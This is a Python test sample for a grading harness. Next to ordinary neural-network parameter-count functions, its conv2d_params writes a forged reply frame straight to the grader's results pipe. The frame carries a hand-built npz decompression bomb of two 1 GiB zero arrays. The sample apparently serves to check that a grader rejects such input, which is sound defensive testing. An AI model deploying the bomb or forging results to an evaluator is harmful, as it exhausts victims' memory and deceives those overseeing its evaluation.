"""Hostile sample: conv2d_params writes a reply frame of its own whose npz members are deflated
1 GiB arrays of zeros (a 2 MiB frame). A decoder that inflates members would take the grading
process to gigabytes; the grader must refuse compressed members without inflating them."""
import os
import struct
import sys
import zlib


def _forge(header, blob=b""):
    """Write a reply frame of our own to the grader's results pipe (its number is on our command line)."""
    frame = struct.pack(">Q", len(header)) + header + struct.pack(">Q", len(blob)) + blob
    fd = int(sys.argv[sys.argv.index("--results") + 1])
    view = memoryview(frame)
    while view:
        view = view[os.write(fd, view):]


def _npy_header(count):
    text = repr({"descr": "<f8", "fortran_order": False, "shape": (count,)}).encode("latin1")
    text += b" " * (-(len(text) + 11) % 64) + b"\n"
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(text)) + text


def _deflated_member(name, size):
    """(local header + data, central entry) of a deflated .npy member holding size bytes of zeros.

    Each 1 MiB of zeros is flushed to its own deflate block, so after the first they are all the
    same bytes: a gigabyte is written in a moment (the CRC is left 0; nothing checks it in time).
    """
    compressor, zeros = zlib.compressobj(1, zlib.DEFLATED, -15), bytes(2**20)
    header = _npy_header(size // 8)
    first = compressor.compress(header) + compressor.compress(zeros) + compressor.flush(zlib.Z_FULL_FLUSH)
    repeated = compressor.compress(zeros) + compressor.flush(zlib.Z_FULL_FLUSH)
    data = first + repeated * (size // len(zeros) - 1) + compressor.flush()
    raw, total = name.encode(), size + len(header)
    local = struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, 0, 8, 0, 0, 0, len(data), total, len(raw), 0) + raw
    central = struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 20, 20, 0, 8, 0, 0, 0, len(data), total,
                          len(raw), 0, 0, 0, 0, 0, 0)
    return local + data, central + raw


def _bomb(members):
    body, directory = b"", b""
    for name in members:
        local, central = _deflated_member(name + ".npy", 2**30)
        directory += central[:42] + struct.pack("<I", len(body)) + central[46:]
        body += local
    end = struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, len(members), len(members), len(directory), len(body), 0)
    return body + directory + end


def conv2d_params(kernel_size, in_channels, filters, use_bias=True):
    header = b'{"ok": true, "value": [{"__ndarray__": "a0"}, {"__ndarray__": "a1"}], "id": 1}'
    _forge(header, _bomb(["a0", "a1"]))
    return 0


def dense_params(in_features, units):
    return in_features * units + units


def simple_rnn_params(input_dim, units):
    return units * (input_dim + units) + units


def lstm_params(input_dim, units):
    return 4 * (units * (input_dim + units) + units)


def gru_params(input_dim, units, reset_after=True):
    return 3 * (units * (input_dim + units) + units) + (3 * units if reset_after else 0)

